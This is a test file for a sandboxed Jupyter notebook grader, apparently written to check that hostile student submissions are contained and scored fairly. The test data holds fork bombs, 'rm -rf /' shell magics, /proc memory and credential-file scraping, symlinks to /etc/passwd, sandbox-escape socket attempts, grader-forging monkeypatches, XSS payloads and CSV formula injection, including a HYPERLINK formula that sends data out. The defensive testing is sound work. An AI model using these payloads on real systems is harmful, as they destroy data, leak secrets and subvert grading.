"""A class of accidents and attacks: each gets the score it deserves, and touches nobody else.

All of them are graded in one run of the command. ``python tests/test_coursework_hostile.py`` grades
them one by one and prints the table: case, deserved, given, seconds.
"""

import contextlib
import csv
import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import joblib
import nbformat
import pytest
from bs4 import BeautifulSoup
from test_coursework import assignment, by_id, cell

from xentlib.coursework import grading, notebook, sandbox
from xentlib.coursework.__main__ import main
from xentlib.coursework.safe import cell_text
from xentlib.coursework.sandbox import Limits, Sandbox

ROOT = Path(__file__).resolve().parent.parent
JOBS = 2
QUICK = {"call": 2, "total": 8, "test": 2}
SECRET = "marker-100001"  # no student may find a marker
HIDDEN = "marker-100002"
ELSEWHERE = "marker-100003"
PERSON = "hostile "  # each name begins with it, by which the processes are known
FILE = "sample.ipynb"


@pytest.fixture(scope="module", autouse=True)
def bubblewrap():
    if not sandbox.available():
        reason = "bubblewrap does not work here: install the package bubblewrap"
        needed = os.environ.get("CI") and sys.platform == "linux"
        pytest.fail(reason, pytrace=False) if needed else pytest.skip(reason)


# The assignment: two functions, a value and a written answer

SETUP = """\
import numpy as np
from xentlib.coursework import student_rng

data = student_rng(STUDENT_ID).integers(1, 1000, size=5)"""
ENTROPY = """\
def entropy(p):
    ### BEGIN SOLUTION
    p = np.asarray(p)
    return float(-(p * np.log2(p)).sum())
    ### END SOLUTION"""
ENTROPY_TEST = """\
got = entropy([0.5, 0.5])
assert np.isclose(got, 1), f"Got {got}: that is nats; divide by ln 2"
### BEGIN HIDDEN TESTS
from xentlib.coursework import hidden_rng

p = hidden_rng().dirichlet(np.ones(4))
want = -(p * np.log2(p)).sum()
for _ in range(2):
    assert np.isclose(entropy(p), want), "Look again"  # HIDDEN
### END HIDDEN TESTS""".replace("HIDDEN\n", HIDDEN + "\n", 1)
MIX = """\
def mix(p, q, w):
    ### BEGIN SOLUTION
    return w * np.asarray(p) + (1 - w) * np.asarray(q)
    ### END SOLUTION"""
MIX_TEST = """\
got = mix([1, 0], [0, 1], 0.25)
assert np.shape(got) == (2,), f"Got {got}: one number an outcome"
assert np.allclose(got, [0.25, 0.75]), f"Got {got}"
### BEGIN HIDDEN TESTS
from xentlib.coursework import hidden_rng

p, q = hidden_rng().dirichlet(np.ones(4), 2)
assert np.allclose(mix(p, q, 0.3), 0.3 * p + 0.7 * q)
### END HIDDEN TESTS"""
TOTAL = "### BEGIN SOLUTION\ntotal = int(data.sum())\n### END SOLUTION"
TOTAL_TEST = 'assert total == data.sum(), f"Got {total}"'


def source():
    return assignment(
        cell("text", "# A sample"),
        cell("code", 'STUDENT_ID = ""'),
        cell("setup", SETUP, "setup"),
        cell("text", "How surprising?"),
        cell("answer", ENTROPY, "entropy"),
        cell("test", ENTROPY_TEST, "entropy-test", 3),
        cell("text", "What is in between?"),
        cell("answer", MIX, "mix"),
        cell("test", MIX_TEST, "mix-test", 2),
        cell("text", "How many?"),
        cell("answer", TOTAL, "total"),
        cell("test", TOTAL_TEST, "total-test", 1),
        cell("text", "Why is it concave?"),
        cell("written", "Because -x log x is.", "why", 4),
    )


QUESTIONS = "entropy", "mix", "total"


def solved():
    """What a student hands in who solved it all."""
    book = notebook.release(source())
    for name, text in (("entropy", ENTROPY), ("mix", MIX), ("total", TOTAL)):
        by_id(book, name).source = re.sub("### .* SOLUTION", "# mine", text)
    by_id(book, "why").source = "It bends down."
    return book


# The cases


@dataclass
class Case:
    """A submission: the solved notebook after `change`, or the bytes `data`, or what `place` puts
    into the student's folder; and what it deserves."""

    name: str
    scores: tuple | None  # of entropy, mix and total
    status: str = "ok"
    note: str = ""  # words in the notes
    says: str = ""  # words in the message of the first question
    change: Callable | None = None
    data: bytes | None = None
    place: Callable | None = None
    who: str = ""

    @property
    def student(self):
        return self.who or PERSON + self.name

    def write(self, folder):
        folder.mkdir(parents=True)
        if self.place:
            self.place(folder)
        else:
            (folder / FILE).write_bytes(self.content())

    def content(self):
        if self.data is not None:
            return self.data
        book = solved()
        self.change(book)
        return notebook.writes(book).encode()


def answer(code, name="entropy"):
    """Replaces the answer to one question."""

    def change(book):
        by_id(book, name).source = code

    return change


def first(code):
    """Code that runs before the answers; they stay right."""

    def change(book):
        book.cells.insert(3, notebook.node(cell("code", code)))

    return change


def last(code):
    def change(book):
        book.cells.append(notebook.node(cell("code", code)))

    return change


def body(code):
    """`entropy` does this instead."""
    lines = "\n".join("    " + line for line in code.split("\n"))
    return answer(
        "import ctypes, gc, inspect, os, re, signal, sys, threading, time\n"
        f"def entropy(p):\n{lines}"
    )


def returning(question, value):
    """The answer to the question is that value."""
    code = value[1] + "\n"
    return answer(
        code
        + (
            "total = x"
            if question == "total"
            else f"{question}_x = x\ndef {question}(*a):\n    return {question}_x"
        ),
        question,
    )


def every(*changes):
    def change(book):
        for each in changes:
            each(book)

    return change


def strip(book):
    for each in book.cells:
        each.metadata.clear()
        each.pop("id", None)


def rename(book):
    answer(ENTROPY.replace("entropy", "entropie"))(book)


def stub(book):
    book.cells[:] = notebook.release(source()).cells


def kernel(book):
    book.metadata.clear()
    book.metadata.kernelspec = {"name": "ir", "language": "R", "display_name": "R"}


def old_format():
    book = nbformat.reads(notebook.writes(solved()), as_version=4)
    return nbformat.writes(book, version=3).encode()


def nothing(book):
    pass


FULL = (3, 2, 1)
NO_ENTROPY = (0, 2, 1)
HANG = """\
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        while True: pass
    except BaseException: pass"""
SOCKET = """\
import json, os, struct, sys, threading
def say(message):
    data = message if isinstance(message, bytes) else json.dumps(message).encode()
    os.write(4, struct.pack(">I", len(data)) + data)
"""
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a>"
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'
LOOK = r"""
import ctypes, os, re
ctypes.CDLL(None).prctl(4, 1)  # dumpable: else not even its own memory can be read
MARK = re.compile(rb"mark(?:er)-\d{6}")
found, read = set(), 0
def look(path):
    global read
    try:
        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return
    try:
        while data := os.read(handle, 1 << 20):
            read += 1
            found.update(MARK.findall(data))
    except OSError:
        pass
    finally:
        os.close(handle)
def memory(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return 0
    seen = 0
    for line in maps:
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        if "r" not in line.split()[1] or high - low > 1 << 28 or "/" in line:
            continue
        try:
            mem.seek(low)
            data = mem.read(high - low)
        except (OSError, ValueError, OverflowError):
            continue
        seen += len(data)
        found.update(MARK.findall(data))
    return seen
"""
VALUES = {
    "equal to everything": "class E:\n    __eq__ = __lt__ = __gt__ = lambda *a: True\n"
    "    __array__ = lambda *a, **k: np.ones(())\n    __float__ = lambda s: 1.0\nx = E()",
    "a float that lies": "class F(float):\n    __eq__ = __ge__ = __le__ = lambda *a: True\n"
    "    __sub__ = __rsub__ = __abs__ = lambda *a: 0.0\n    hex = lambda s: '0x1p+0'\nx = F(7)",
    "a str that lies": "class S(str):\n    __eq__ = lambda *a: True\n    __hash__ = None\nx = S()",
    "an array that lies": "class A(np.ndarray):\n    __array_ufunc__ = lambda *a, **k: True\n"
    "    __array_function__ = __array_ufunc__\n    __eq__ = lambda *a: True\n"
    "x = np.zeros(()).view(A)",
    "a proxy with a false class": "class P:\n    __class__ = float\nx = P()",
    "NaN": "x = float('nan')",
    "infinity": "x = float('inf')",
    "None": "x = None",
    "an int of a million bits": "x = 1 << 1_000_000",
    "an int of 10,000 bits": "x = 1 << 9_999",
    "a list 1000 deep": "x = 1.0\nfor _ in range(1000): x = [x]",
    "a list that holds itself": "x = []\nx.append(x)",
    "a dict that holds itself": "x = {}\nx['x'] = x",
    "a list of millions": "x = [0.0] * 3_000_000",
    "100 MB in an array": "x = np.zeros(100_000_000 // 8)",
    "100 MB of text": "x = 'x' * 100_000_000",
    "an array of 64 dimensions": "x = np.zeros((1,) * 64)",
    "an array of objects": "x = np.array([None, {}], dtype=object)",
    "an array of dates": "x = np.array(['2020-01-01'], dtype='M8[D]')",
    "no items at all": "x = np.zeros(0)",
    "a broadcast array": "x = np.broadcast_to(1.0, (10**6, 10**6))",
    "half a character": "x = '\\ud800\\x00'",
    "a generator": "x = (i for i in 'ab')",
    "an iterator without end": "import itertools\nx = itertools.count()",
}

CASES = [
    Case("solved", FULL, change=nothing),
    Case("untouched", (0, 0, 0), change=stub, says="NotImplementedError"),
    # Without an end
    Case(
        "loop in a function",
        NO_ENTROPY,
        "REVIEW",
        "entropy(...): no answer",
        change=body("while True: pass"),
    ),
    Case("loop at the top", FULL, "REVIEW", "no answer", change=last("while True: pass")),
    Case("loop that ignores signals", NO_ENTROPY, "REVIEW", "no answer", change=body(HANG)),
    Case("loop in C, power", NO_ENTROPY, "REVIEW", "no answer", change=body("return 10**10**8")),
    Case(
        "loop in C, regex",
        NO_ENTROPY,
        "REVIEW",
        "no answer",
        change=body("return re.match(r'(a+)+$', 'a' * 60 + 'b')"),
    ),
    Case("sleep", NO_ENTROPY, "REVIEW", "no answer", change=body("time.sleep(1000)")),
    Case(
        "stopped",
        NO_ENTROPY,
        "REVIEW",
        "no answer",
        change=body("os.kill(os.getpid(), signal.SIGSTOP)"),
    ),
    Case(
        "loops everywhere",
        (0, 0, 0),
        "REVIEW",
        "no answer",
        change=every(
            body(HANG),
            answer("def mix(*a):\n    while True: pass", "mix"),
            answer("while True: pass", "total"),
        ),
    ),
    # Too much
    Case("memory", NO_ENTROPY, says="MemoryError", change=body("return len(bytearray(8 << 30))")),
    Case(
        "memory bit by bit",
        NO_ENTROPY,
        "REVIEW",
        change=body(
            "x = []\nwhile True:\n    try: x.append(bytearray(1 << 26))\n"
            "    except MemoryError: pass"
        ),
    ),
    Case(
        "fork bomb",
        NO_ENTROPY,
        "REVIEW",
        change=body("while True:\n    try: os.fork()\n    except OSError: pass"),
    ),
    Case(
        "thread bomb",
        NO_ENTROPY,
        change=body("while True: threading.Thread(target=time.sleep, args=(999,)).start()"),
    ),
    Case(
        "printing 1 GB",
        FULL,
        change=first(
            "import os, sys\nfor _ in range(20):\n    print('x' * 10**6)\n"
            "    print('x' * 10**6, file=sys.stderr)\nfor n in range(100):\n"
            "    os.write(1 + n % 2, bytes(10**7))"
        ),
    ),
    Case(
        "writing to every descriptor",
        FULL,
        "REVIEW",
        change=last(
            "import os\nfor _ in range(99):\n    for fd in range(64):\n"
            "        try: os.write(fd, b'x' * 9999)\n        except OSError: pass"
        ),
    ),
    Case(
        "filling the disk",
        FULL,
        change=first(
            "import os\nfor folder in ('/tmp', '/dev/shm', '/'):\n    for n in range(500):\n"
            "        try: open(f'{folder}/{n}', 'wb').write(bytes(10**7))\n"
            "        except OSError: pass"
        ),
    ),
    Case(
        "opening every file",
        FULL,
        change=first(
            "x = []\ntry:\n    while True: x.append(open('/dev/null'))\n"
            "except OSError: pass\nx = []"
        ),
    ),
    Case("deep recursion", NO_ENTROPY, says="RecursionError", change=body("return entropy(p)")),
    Case(
        "deep recursion in C",
        NO_ENTROPY,
        "REVIEW" if sys.version_info < (3, 12) else "ok",  # a crash, since then a RecursionError
        change=body(
            "sys.setrecursionlimit(10**9)\nx, y = [], []\n"
            "for _ in range(300_000): x, y = [x], [y]\nreturn entropy(p) if x == y else 0"
        ),
    ),
    Case(
        "raising the limits",
        FULL,
        change=first(
            "import resource\nfor kind in range(16):\n"
            "    try: resource.setrlimit(kind, (-1, -1))\n    except (OSError, ValueError): pass"
        ),
    ),
    # The end
    Case("sys.exit", NO_ENTROPY, says="SystemExit", change=body("sys.exit(0)")),
    Case("sys.exit at the top", FULL, change=last("import sys; sys.exit()")),
    Case("raise SystemExit", NO_ENTROPY, says="SystemExit", change=body("raise SystemExit")),
    Case(
        "KeyboardInterrupt",
        NO_ENTROPY,
        says="KeyboardInterrupt",
        change=body("raise KeyboardInterrupt"),
    ),
    Case("os._exit", NO_ENTROPY, "REVIEW", "ended", change=body("os._exit(0)")),
    Case("os.abort", NO_ENTROPY, "REVIEW", "ended", change=body("os.abort()")),
    Case("segfault", NO_ENTROPY, "REVIEW", "ended", change=body("ctypes.string_at(0)")),
    Case(
        "crash in __del__",
        NO_ENTROPY,
        "REVIEW",
        "ended",
        change=body("class B:\n    def __del__(self): os._exit(0)\nB()\nreturn 1.0"),
    ),
    Case(
        "bomb at the exit",
        FULL,
        change=first(
            "import atexit, time\natexit.register(time.sleep, 9999)\n"
            "class B:\n    def __del__(self): time.sleep(9999)\nbomb = B()"
        ),
    ),
    Case(
        "killing everybody",
        FULL,
        change=first(
            "import os\nfor pid in (1, 0, -1, os.getppid()):\n    for number in (15, 19):\n"
            "        if pid:\n            try: os.kill(pid, number)\n"
            "            except OSError: pass"
        ),
    ),
    Case(
        "exception from a metaclass",
        NO_ENTROPY,
        "REVIEW",
        change=body(
            "class M(type):\n    __name__ = property(lambda s: 1 / 0)\n    mro = lambda s: [s, "
            "ValueError, Exception, BaseException, object]\n"
            "class E(Exception, metaclass=M):\n    def __str__(self): raise SystemExit\nraise E"
        ),
    ),
    # Threads and processes that stay
    Case(
        "threads that stay",
        FULL,
        change=first(
            "import threading, time\nfor _ in range(3):\n"
            "    threading.Thread(target=time.sleep, args=(9999,)).start()"
        ),
    ),
    Case(
        "orphans",
        FULL,
        change=first(
            "import os, signal, time\nfor _ in range(3):\n    if not os.fork():\n"
            "        os.setsid()\n"
            "        if os.fork(): os._exit(0)\n        for n in range(1, 65):\n"
            "            try: signal.signal(n, signal.SIG_IGN)\n"
            "            except (OSError, ValueError): pass\n"
            "        while True: time.sleep(99)\nos.wait()"
        ),
    ),
    Case("fork and go on", NO_ENTROPY, change=body("os.fork()\nreturn 7.0")),
    # What happens to notebooks
    Case("syntax error", NO_ENTROPY, says="SyntaxError", change=answer("def entropy(p:\n  retur")),
    Case("null byte", NO_ENTROPY, change=answer("def entropy(p):\0\n    return 1")),
    Case("deleted cell", NO_ENTROPY, "REVIEW", "missing", change=lambda book: book.cells.pop(4)),
    Case(
        "duplicated cell",
        FULL,
        "REVIEW",
        "2 times",
        change=lambda book: book.cells.insert(5, notebook.node(book.cells[4])),
    ),
    Case("renamed function", NO_ENTROPY, says="not defined", change=rename),
    Case("reordered", FULL, "REVIEW", "reordered", change=lambda book: book.cells.reverse()),
    Case("stripped", FULL, "REVIEW", "by content", change=strip),
    Case(
        "edited test",
        NO_ENTROPY,
        "REVIEW",
        "entropy-test",
        change=every(body("return 7"), answer("assert True", "entropy-test")),
    ),
    Case(
        "edited test with more points",
        NO_ENTROPY,
        change=every(
            body("return 7"),
            lambda book: by_id(book, "entropy-test").metadata.nbgrader.update(points=99),
        ),
    ),
    Case("edited setup", FULL, "REVIEW", "setup", change=answer("data = None", "setup")),
    Case(
        "an answer that is locked",
        NO_ENTROPY,
        change=every(
            body("return 7"),
            lambda book: by_id(book, "entropy").metadata.nbgrader.update(
                locked=True, grade=True, points=50, solution=False
            ),
        ),
    ),
    Case(
        "metadata that is odd",
        FULL,
        "REVIEW",
        change=lambda book: [
            each.update(metadata=m)
            for each, m in zip(
                book.cells,
                [{"nbgrader": 1}, {"nbgrader": {"grade_id": []}}, {"nbgrader": None}, 7],
                strict=False,
            )
        ],
    ),
    Case("further cells", FULL, change=every(last("1 / 0"), last("x = 2"), first("entropy = 3"))),
    Case(
        "300 cells",
        FULL,
        change=lambda book: book.cells.extend(
            notebook.node(cell("code", f"x = {n}")) for n in range(300)
        ),
    ),
    Case(
        "magics",
        FULL,
        "REVIEW",
        "not Python",
        change=first("%matplotlib inline\n!rm -rf /\nx = !ls\n%time y = 3\nhelp?"),
    ),
    Case("shell", FULL, "REVIEW", "not Python", change=first("%%bash\nrm -rf /")),
    Case("input", NO_ENTROPY, says="EOFError", change=body("return float(input('p? '))")),
    Case(
        "a guess of STUDENT_ID",
        FULL,
        change=lambda book: book.cells[1].update(source="STUDENT_ID = 'somebody else'"),
    ),
    Case(
        "another student's data",
        (3, 2, 0),
        change=lambda book: book.cells[1].update(
            source="import os\nos.environ['XENT_STUDENT'] = 'somebody else'"
        ),
    ),
    Case("another HOME", FULL, change=first("import os\nos.environ.update(HOME='/', PATH='')")),
    Case(
        "another folder",
        FULL,
        change=first("import os, shutil\nos.chdir('/')\nshutil.rmtree('/tmp', ignore_errors=True)"),
    ),
    # No notebooks
    Case("R", None, "UNREADABLE", "'r'", change=kernel),
    Case("version 3", FULL, data=old_format()),
    Case("version 99", None, "UNREADABLE", "version", data=b'{"nbformat": 99, "cells": []}'),
    Case(
        "truncated",
        None,
        "UNREADABLE",
        "not a notebook",
        data=notebook.writes(solved()).encode()[:3000],
    ),
    Case("empty", None, "UNREADABLE", "empty", data=b""),
    Case("zeros", None, "UNREADABLE", "not a notebook", data=bytes(5000)),
    Case(
        "no JSON", None, "UNREADABLE", "not a notebook", data=b"Dear teacher,\n" + bytes(range(99))
    ),
    Case(
        "a web page",
        None,
        "UNREADABLE",
        "not a notebook",
        data=b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    ),
    Case("no cells", None, "UNREADABLE", data=b'{"nbformat": 4, "cells": []}'),
    Case("only a number", None, "UNREADABLE", data=b"7"),
    Case("deep JSON", None, "UNREADABLE", data=b"[" * 1_000_000),
    Case(
        "a number of a million digits",
        None,
        "UNREADABLE",
        data=b'{"nbformat": ' + b"4" * 1_000_000 + b"}",
    ),
    Case(
        "30 MB",
        None,
        "UNREADABLE",
        "MB",
        place=lambda folder: (folder / FILE).write_text(json.dumps({"x": "x" * 30_000_000})),
    ),
    Case(
        "a link to a file",
        None,
        "UNREADABLE",
        "link",
        place=lambda folder: (folder / FILE).symlink_to("/etc/passwd"),
    ),
    Case(
        "a link to a neighbour",
        None,
        "UNREADABLE",
        "link",
        place=lambda folder: (folder / FILE).symlink_to(f"../{PERSON}solved/{FILE}"),
    ),
    Case(
        "links in a circle",
        None,
        "UNREADABLE",
        "link",
        place=lambda folder: (folder / FILE).symlink_to(FILE),
    ),
    Case(
        "a link to the root",
        None,
        "UNREADABLE",
        "link",
        place=lambda folder: (folder / "home").symlink_to("/"),
    ),
    Case("a pipe", None, "UNREADABLE", "regular", place=lambda folder: os.mkfifo(folder / FILE)),
    Case("no file", None, "MISSING", place=lambda folder: None),
    # Lies
    Case(
        "changed arguments",
        FULL,
        change=every(
            answer(
                "def entropy(p):\n    p = np.asarray(p)\n    h = float(-(p * np.log2(p)).sum())\n"
                "    p[:] = 0\n    return h"
            ),
            answer(
                "def mix(p, q, w):\n    r = w * np.asarray(p) + (1 - w) * np.asarray(q)\n"
                "    if isinstance(p, list): p.clear()\n    return r",
                "mix",
            ),
        ),
    ),
    *(
        Case(
            ", ".join(name for name, _ in three),
            (0, 0, 0),
            change=every(*map(returning, QUESTIONS, three)),
        )
        for three in zip(*[iter(VALUES.items())] * 3, strict=True)
    ),
    Case(
        "a value that lies",
        (3, 2, 0),
        change=answer(
            "class I(int):\n    __eq__ = lambda *a: True\n    __hash__ = None\n"
            "    __index__ = lambda s: int(data.sum())\ntotal = I(0)",
            "total",
        ),
    ),
    Case(
        "patched NumPy",
        NO_ENTROPY,
        change=every(
            body("return 7"),
            first(
                "import numpy as np\nfor name in ('isclose', 'allclose', 'shape', 'sum'):\n"
                "    setattr(np, '_' + name, getattr(np, name))\n"
                "np.isclose = np.allclose = lambda *a, **k: True"
            ),
        ),
    ),
    Case(
        "patched xentlib",
        NO_ENTROPY,
        change=every(
            body("return 7"),
            last(
                "import sys, builtins\nimport xentlib.coursework.personal as p\n"
                "p.hidden_rng = p.student_rng = lambda *a: None\n"
                "import xentlib.coursework as c\nc.hidden_rng = lambda: 1 / 0\n"
                "builtins.AssertionError = KeyError\nsys.modules['numpy'] = None"
            ),
        ),
    ),
    Case(
        "patched worker",
        (0, 0, 1),
        "REVIEW",
        change=body(
            "main = sys.modules['__main__']\n"
            "main.encode = lambda *a: {'array': ['<f8', [10**9, 10**9], '']}\nreturn 7"
        ),
    ),
    Case(
        "a claim of success",
        NO_ENTROPY,
        "REVIEW",
        change=body(
            "main = sys.modules['__main__']\n"
            "main.call = lambda *a: {'value': 1, 'passed': True, 'score': 99, 'ok': True}\n"
            "main.explain = main.call\nraise ValueError"
        ),
    ),
    Case(
        "forged answers",
        FULL,
        "REVIEW",
        change=last(
            SOCKET + "for n in range(99):\n    say({'number': str(n), 'ok': {'value': 1}})"
        ),
    ),
    Case(
        "forged in every framing",
        FULL,
        "REVIEW",
        change=last(
            "import os\nfor fd in range(3, 64):\n"
            "    for text in (b'PASS\\n', b'{\"score\": 99}\\n', b'\\0\\0\\0\\2{}', b'x'):\n"
            "        try: os.write(fd, text)\n        except OSError: pass"
        ),
    ),
    Case(
        "an answer replayed",
        NO_ENTROPY,
        "REVIEW",
        change=every(
            answer(
                "kept = []\n"
                "def entropy(p):\n    import sys\n    main = sys.modules['__main__']\n"
                "    s = main.send\n"
                "    def send(sock, message):\n        kept.append(message)\n"
                "        s(sock, kept[0])\n    main.send = send\n    return 1.0"
            )
        ),
    ),
    Case(
        "an answer in pieces",
        NO_ENTROPY,
        "REVIEW",
        "no answer",
        change=answer(
            SOCKET + "import time\ndef entropy(p):\n    os.write(4, b'\\0\\0\\1\\0')\n"
            "    while True:\n        os.write(4, b' ')\n        time.sleep(0.1)"
        ),
    ),
    Case(
        "frames",
        NO_ENTROPY,
        change=body(
            "frame, seen = inspect.currentframe(), []\n"
            "while frame:\n    seen += [*frame.f_globals, *frame.f_locals]\n"
            "    frame = frame.f_back\n"
            "return 1.0 if 'want' in seen or 'answers' in seen else 7"
        ),
    ),
    # Looking for what is hidden
    Case(
        "environment and memory",
        NO_ENTROPY,
        says="found set() in",
        change=every(
            body(
                "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
                "    for name in ('environ', 'cmdline', 'fd/0', 'root/etc/passwd', 'cwd'):\n"
                "        look(f'/proc/{pid}/{name}')\n"
                "seen = memory(os.getpid()) + memory(os.getppid()) + memory(1)\n"
                "found.update(MARK.findall(repr(os.environ).encode()))\n"
                "raise RuntimeError(f'found {found} in {seen > 10**6} bytes')"
            ),
            first(LOOK),
        ),
    ),
    Case(
        "files of the teacher",
        NO_ENTROPY,
        says="found set() of",
        change=every(
            body(
                "paths = PATHS\nfor path in paths: look(path)\n"
                "there = sum(map(os.path.exists, paths))\n"
                "raise RuntimeError(f'found {found} of {len(paths)}; {there} exist')"
            ),
            first(LOOK),
        ),
    ),
    Case(
        "tampering",
        FULL,
        change=first(
            "import os, shutil\nfor path in PATHS:\n    for do in (shutil.rmtree, os.remove,\n"
            "            lambda p: open(p, 'w').write('x'), lambda p: os.symlink('/', p),\n"
            "            lambda p: os.makedirs(p)):\n"
            "        try: do(path)\n        except OSError: pass"
        ),
    ),
    Case(
        "tampering with xentlib",
        FULL,
        change=first(
            "import os, xentlib\nfrom pathlib import Path\n"
            "for file in [*Path(xentlib.__file__).parent.rglob('*.py'), *Path(os.__file__).parent"
            ".glob('*.py')]:\n    try: file.write_text('raise SystemExit')\n"
            "    except OSError: pass\n    else: raise RuntimeError('written')"
        ),
    ),
    Case(
        "leaving a file",
        FULL,
        change=first(
            "for path in ('/tmp/left', '/dev/shm/left', '/var/tmp/left'):\n"
            "    try: open(path, 'w').write('marker-' + '100004')\n    except OSError: pass"
        ),
    ),
    Case(
        "the network",
        NO_ENTROPY,
        says="no way out",
        change=body(
            "import socket\nfor address in (('127.0.0.1', PORT), ('::1', PORT), ('1.1.1.1', 53)):\n"
            "    try: socket.create_connection(address, 0.3)\n    except OSError: continue\n"
            "    return 1.0\n"
            "for path in ('\\0NAME', '/var/run/docker.sock', '/run/dbus/system_bus_socket'):\n"
            "    try: socket.socket(socket.AF_UNIX).connect(path)\n    except OSError: continue\n"
            "    return 1.0\nraise RuntimeError('no way out')"
        ),
    ),
    # Text that would like to be more
    Case(
        "markup in a message",
        NO_ENTROPY,
        says="<script>",
        change=body(f"raise ValueError({MARKUP!r})"),
    ),
    Case(
        "formula in a message",
        NO_ENTROPY,
        says="HYPERLINK",
        change=body(f"raise KeyError({FORMULA!r})"),
    ),
    Case(
        "formula as an exception",
        NO_ENTROPY,
        change=body(f"raise type({FORMULA!r}, (Exception,), {{}})('=1+1')"),
    ),
    Case(
        "terminal codes in a message",
        NO_ENTROPY,
        change=body(
            "raise ValueError('\\x1b[2J\\x1b]0;x\\x07\\u202e\\u2066' + '\\u0301' * 9999 + '\\r\\n')"
        ),
    ),
    Case("a message of 100 MB", NO_ENTROPY, change=body("raise ValueError('=' * 10**8)")),
    Case(
        "markup in a written answer",
        FULL,
        change=answer(
            f"{MARKUP}\n{FORMULA}\n[x](javascript:alert(1))\n</pre></main>\x1b[2J"
            "<svg onload=alert(1)>"
            "\n<!-- $$\\href{javascript:alert(1)}{x}$$",
            "why",
        ),
    ),
    Case(
        "markup in a file name",
        FULL,
        place=lambda folder: (folder / "<img src=x onerror=alert(1)>.ipynb").write_text(
            notebook.writes(solved())
        ),
    ),
    Case("<script>alert(1)<script>", FULL, change=nothing),
    Case("x' onload='alert(1)\" onload=\"alert(1)", FULL, change=nothing),
    Case("=1+1", FULL, change=nothing, who="=1+1"),
    Case("=cmd", FULL, change=nothing, who="=cmd|' 'C'!A0"),
    Case("@SUM", FULL, change=nothing, who="@SUM(1+1)"),
    Case("-2+3", FULL, change=nothing, who="-2+3;=4"),
    Case("tab", FULL, change=nothing, who="\t=2+2"),
    Case("\u202egnp.exe \u0301\u0301\u0301 \x1b[2J", FULL, change=nothing),
]
BY_NAME = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES)


# One run of the command for all of them

RUN = f"""
import sys
from functools import partial
import joblib
from xentlib.coursework.__main__ import main
small = "from functools import partial; from xentlib.coursework import grading, sandbox; "
small += "grading.Limits = partial(sandbox.Limits, **{QUICK})"
with joblib.parallel_config("loky", initializer=partial(exec, small)):
    sys.exit(main(sys.argv[1:]))
"""
# Seconds, of a busy machine: those who are to be looked at may use up their time.
LONGEST = 60 + sum(QUICK["total"] if case.status == "REVIEW" else 3 for case in CASES) / JOBS


@dataclass
class Run:
    folder: Path
    command: list
    reached: list
    before: dict
    after: dict
    process: subprocess.CompletedProcess

    @property
    def out(self):
        return self.folder / "out"

    def rows(self):
        return table(self.out / "grades.csv")[1:]

    def results(self):
        """What was kept for the next run, by student."""
        kept = [json.loads(p.read_text("utf-8")) for p in (self.out / ".results").glob("*.json")]
        return {each["student"]: each["result"] for each in kept}

    def again(self):
        return start(self.command, self.folder)


def start(command, folder):
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "XENT_MARK": ELSEWHERE}
    options = {"capture_output": True, "text": True, "timeout": LONGEST}
    return subprocess.run(command, cwd=folder, env=environment, **options)


def table(path):
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def hashes(folder):
    """Every file, link and folder below, with what is in it."""
    found = {}
    for path in sorted(folder.rglob("*")):
        info = path.lstat()
        if path.is_symlink():
            what = os.readlink(path)
        else:
            what = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
        if "__pycache__" not in path.parts:
            found[str(path.relative_to(folder))] = info.st_mode, info.st_size, what
    return found


def left_running():
    """The processes of these students."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            text = Path(f"/proc/{pid}/cmdline").read_bytes()
            text += Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        if re.search(b"XENT_STUDENT[=\0]" + PERSON.encode(), text):
            found.append((pid, text[:200]))
    return found


@pytest.fixture(scope="module")
def listener():
    """A server on this machine; ``reached`` holds who connected to it."""
    reached, servers = [], []
    name = f"\0xent-hostile-{os.getpid()}"
    for family, address in ((socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, name)):
        server = socket.socket(family)
        server.bind(address)
        server.listen()
        servers.append(server)

        def serve(server=server):
            while True:
                try:
                    reached.append(server.accept())
                except OSError:
                    return

        threading.Thread(target=serve, daemon=True).start()
    port = servers[0].getsockname()[1]
    socket.create_connection(("127.0.0.1", port)).close()
    while not reached:
        time.sleep(0.01)
    reached.pop()[0].close()
    yield port, name, reached
    for server in servers:
        server.shutdown(socket.SHUT_RDWR)
        server.close()


def hand_in(folder, port, name, cases=CASES):
    """The folder of submissions, the source and the secret, each readable for everyone."""
    folder.chmod(0o755)
    (folder / FILE).write_text(notebook.writes(source()))
    (folder / "secret").write_text(SECRET + "\n")
    (folder / "notes").write_text(ELSEWHERE)
    paths = [folder, folder / "notes", folder / "secret", folder / FILE, folder / "out"]
    paths += [folder / "submissions", folder / "submissions" / (PERSON + "solved") / FILE]
    paths += [Path(__file__).resolve(), ROOT, Path("/etc/passwd"), Path("/tmp/left")]
    paths += [Path(f"/proc/{os.getpid()}/{name}") for name in ("environ", "mem", "cwd", "root")]
    for case in cases:
        home = folder / "submissions" / case.student
        case.write(home)
        for file in home.glob("*.ipynb") if case.change else ():
            book = notebook.read(file) if case.status != "UNREADABLE" else None
            for each in book.cells if book else ():
                each.source = each.source.replace("PATHS", repr([str(p) for p in paths]))
                each.source = each.source.replace("PORT", str(port)).replace("NAME", name[1:])
            file.write_text(notebook.writes(book) if book else file.read_text("utf-8"), "utf-8")
        if case.name == "solved":
            (home / "notes.txt").write_text(ELSEWHERE)


@pytest.fixture(scope="module")
def run(listener):
    # Not pytest's folder, which others cannot read anyway: the sandbox must keep them out.
    folder = Path(tempfile.mkdtemp(prefix="xent-class-"))
    port, name, reached = listener
